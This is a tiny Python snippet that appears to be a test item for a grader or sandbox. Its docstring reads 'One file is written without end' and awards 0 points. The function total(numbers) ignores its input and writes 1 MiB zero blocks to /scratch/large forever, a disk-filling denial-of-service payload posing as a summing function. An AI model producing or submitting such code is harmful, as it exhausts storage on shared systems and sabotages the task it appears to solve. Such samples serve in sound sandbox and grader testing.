"""One file is written without end.

place: in total
points: 0
"""
def total(numbers):
    with open("/scratch/large", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
